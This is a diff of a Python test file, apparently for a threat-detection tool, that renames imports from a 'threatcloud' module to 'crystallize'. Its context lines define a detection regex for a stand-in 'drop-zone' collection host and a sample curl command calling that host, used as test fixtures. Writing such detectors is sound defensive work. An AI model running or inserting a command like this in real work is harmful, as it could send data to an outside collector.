@@ -5,9 +5,9 @@ from collections.abc import Sequence
 
 import pytest
 
+from panguard.crystallize.gates import GATES, Grounds, examine, read_candidate, warning_lists
+from panguard.crystallize.grounds import grounds
 from panguard.engine.canonical import candidate_id
-from panguard.threatcloud.gates import GATES, Grounds, examine, read_candidate, warning_lists
-from panguard.threatcloud.grounds import grounds
 
 HOST = r"collect\.drop-zone\.example/u/[0-9a-f]{8}"
 SEEN = "curl https://collect.drop-zone.example/u/0a1b2c3d"
